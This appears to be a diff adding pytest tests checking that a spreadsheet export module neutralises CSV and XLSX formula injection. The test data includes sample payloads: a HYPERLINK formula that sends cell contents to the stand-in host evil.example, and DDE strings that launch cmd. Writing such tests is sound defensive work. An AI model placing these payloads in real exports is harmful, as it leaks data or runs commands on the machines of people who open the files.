@@ -1,0 +1,62 @@
+"""``events.spreadsheet``: no text reaches a CSV or XLSX as a formula (OWASP "CSV Injection").
+
+Table-driven, no database. The exports themselves are run over hostile names in
+``tests/test_exports_formula_free.py``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from events.spreadsheet import cell_text, csv_text, xlsx_append
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Claim prize")'
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        pytest.param(HYPERLINK, "'" + HYPERLINK, id="owasp-equals"),
+        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="owasp-plus"),
+        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="owasp-minus"),
+        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="owasp-at"),
+        pytest.param("\t=1+1", "'\t=1+1", id="owasp-tab"),
+        pytest.param("\r=1+1", "'\r=1+1", id="owasp-carriage-return"),
+        pytest.param("-", "'-", id="a-lone-dash"),
+        pytest.param("-1e3", "'-1e3", id="not-our-number-format"),
+        pytest.param("Ding, Liren", "Ding, Liren", id="plain-name"),
+        pytest.param("Nakamura =1+1", "Nakamura =1+1", id="formula-not-at-the-start"),
+        pytest.param("", "", id="empty"),
+        # The exact numbers the product writes itself stay numbers for scripts.
+        pytest.param("-0.25", "-0.25", id="negative-decimal"),
+        pytest.param("-25/3", "-25/3", id="negative-fraction"),
+        pytest.param("-1 2", "-1 2", id="tiebreak-list"),
+        pytest.param("12.5", "12.5", id="positive-decimal"),
+    ],
+)
+def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text: str, cell: str) -> None:
+    assert cell_text(text) == cell
+
+
+def test_csv_text_neutralises_text_cells_and_keeps_numbers() -> None:
+    text = csv_text([["name", "points"], [HYPERLINK, 3], ["@x", Decimal("-2.5")]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows == [["name", "points"], ["'" + HYPERLINK, "3"], ["'@x", "-2.5"]]
+
+
+def test_xlsx_text_is_text_never_a_formula_and_numbers_stay_numbers() -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    xlsx_append(sheet, [HYPERLINK, Decimal("82500"), 7, "+1", "Carlsen"])
+    out = io.BytesIO()
+    workbook.save(out)
+    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
+    assert [cell.value for cell in cells] == [HYPERLINK, 82500, 7, "+1", "Carlsen"]
+    assert [cell.data_type for cell in cells] == ["s", "n", "n", "s", "s"]
+    # The quote prefix keeps a formula-like text as text when someone edits the cell.
+    assert [cell.quotePrefix for cell in cells] == [True, False, False, True, False]
